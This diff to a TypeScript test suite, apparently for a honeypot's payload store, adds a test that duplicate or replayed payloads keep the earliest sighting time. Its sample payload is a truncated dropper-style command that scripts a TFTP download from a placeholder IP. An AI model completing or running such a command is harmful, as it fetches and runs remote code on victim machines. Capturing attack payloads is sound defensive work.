@@ -223,6 +223,15 @@ function payloadsContract(factory: StoreFactory): void {
       assert.equal(got?.size, 5000);
     });
 
+    it('keeps the earliest sighting when the same payload arrives several times at once', async () => {
+      const bytes = new TextEncoder().encode('echo open 198.51.100.9 69 > x & tftp ...');
+      const puts = await Promise.all([T0 + 300, T0 + 100, T0 + 200].map((ts) => h.store.putPayload(bytes, ts)));
+      assert.equal(new Set(puts.map((p) => p.sha256)).size, 1);
+      assert.equal((await h.store.getPayload(puts[0].sha256))?.firstSeen, T0 + 100);
+      await h.store.putPayload(bytes, T0 + 50);
+      assert.equal((await h.store.getPayload(puts[0].sha256))?.firstSeen, T0 + 50, 'an earlier replayed sighting moves firstSeen back');
+    });
+
     it('answers undefined for an unknown digest', async () => {
       assert.equal(await h.store.getPayload('0'.repeat(64)), undefined);
     });
